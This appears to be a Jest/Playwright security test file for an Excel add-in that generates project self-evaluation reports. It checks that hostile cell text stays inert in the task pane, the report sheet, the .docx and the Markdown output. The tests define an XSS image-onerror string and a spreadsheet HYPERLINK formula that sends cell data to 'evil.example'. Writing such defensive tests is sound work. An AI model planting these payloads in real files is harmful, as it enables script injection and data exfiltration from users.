// Cell text is untrusted: markup and formula-injection strings in cells stay inert in the task pane,
// the report sheet, the .docx and the Markdown; the task pane page asks only for its own origin and
// office.js, under a Content-Security-Policy.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as ExcelJS from 'exceljs';
import JSZip from 'jszip';
import type { Page } from 'playwright-core';
import { run } from '../../src/cli/main';
import { projectSheet, GOOD_INDICATORS } from '../core/template';
import { ROOT, SHOTS, workbenchSuite } from './browser';

jest.setTimeout(60_000);

const XSS = '<img src=x onerror="window.__pwned=1">';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

/** A project table whose name, indicator names and reasons carry hostile text. */
async function hostileWorkbook(): Promise<Buffer> {
  const sheet = projectSheet({
    name: `人代会议${XSS}`,
    indicators: GOOD_INDICATORS.map((r, k) => (k === 0 ? { ...r, l3: `${FORMULA}`, actual: '1次', reason: `${XSS}${FORMULA}` } : k === 1 ? { ...r, l3: XSS, target: '/' } : r)),
  });
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('附件3');
  sheet.rows.forEach((row, r) =>
    row?.forEach((cell, c) => {
      if (!cell || cell.v === null) return;
      const target = ws.getCell(r + 1, c + 1);
      target.value = cell.v as ExcelJS.CellValue;
      if (cell.fmt) target.numFmt = cell.fmt;
    }),
  );
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const suite = workbenchSuite();
let page: Page;
let book: Buffer;
beforeAll(async () => {
  book = await hostileWorkbook();
});

test('the task pane page loads only its own scripts and office.js, under a CSP', async () => {
  page = await suite.browser.newPage();
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto(`${suite.url}taskpane.html`);
  await page.waitForFunction(() => document.getElementById('root')?.textContent?.includes('请在 Excel 中打开'));
  const origin = new URL(suite.url).origin;
  expect(requests.every((u) => u.startsWith(origin))).toBe(true);
  expect(requests.some((u) => u.endsWith('/office/office.js'))).toBe(true);
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("object-src 'none'");
  await page.close();
});

test('hostile cell text stays text in the task pane and in the report sheet', async () => {
  page = await suite.browser.newPage({ viewport: { width: 1400, height: 860 } });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(`${suite.url}?sample=${encodeURIComponent('示例-项目支出自评.xlsx')}`);
  await page.waitForSelector('[data-testid=grid] td[data-addr=A1]');
  await page.setInputFiles('[data-testid=open-file]', { name: 'hostile.xlsx', mimeType: 'application/octet-stream', buffer: book });
  await page.waitForFunction(() => (window as any).__workbench?.name === 'hostile.xlsx');
  await page.click('[data-testid=check]');
  await page.waitForSelector('[data-testid=finding]');
  const pane = page.locator('[data-testid=taskpane]');
  expect(await pane.innerText()).toContain('<img src=x onerror=');
  expect(await pane.locator('img').count()).toBe(0);
  // The report sheet: a paragraph that starts with "=" is written as text, never as a formula.
  await page.click('[data-testid=tab-report]');
  await page.click('[data-testid=report-sheet]');
  await page.click('[data-testid=report-anyway]'); // past the warning (the workbook has errors)
  await page.waitForSelector('[data-testid=grid][data-sheet="自评报告"]');
  const cells = await page.evaluate(() => (window as any).__workbench.book.workbook.sheets.find((s: any) => s.name === '自评报告').rows.map((r: any) => r[0]));
  expect(cells.some((c: any) => c && c.f !== undefined)).toBe(false);
  expect(cells.map((c: any) => c?.v ?? '').join('\n')).toContain(XSS);
  expect(await page.locator('[data-testid=grid] img').count()).toBe(0);
  expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  await page.screenshot({ path: join(SHOTS, '10-hostile-text.png') });
  await page.close();
});

test('hostile cell text stays text in the .docx and the Markdown', async () => {
  const dir = join(ROOT, 'test-output');
  const input = join(dir, 'hostile.xlsx');
  require('node:fs').mkdirSync(dir, { recursive: true });
  require('node:fs').writeFileSync(input, book);
  const docx = join(dir, 'hostile.docx');
  const md = join(dir, 'hostile.md');
  const code = await run(['report', input, '--docx', docx, '--md', md], () => {}, () => {});
  expect(code).toBe(0);
  const xml = await (await JSZip.loadAsync(readFileSync(docx))).file('word/document.xml')!.async('string');
  expect(xml).not.toContain('<img');
  expect(xml).toContain('&lt;img src=x onerror=');
  expect(xml).not.toMatch(/<w:fldSimple|<w:instrText/); // no field codes: =HYPERLINK stays text
  const text = readFileSync(md, 'utf8');
  expect(text).not.toMatch(/(^|[^\\])<img/m);
  expect(text).not.toMatch(/(^|[^\\])\[[^\]]*\]\(/m); // no live Markdown links
});
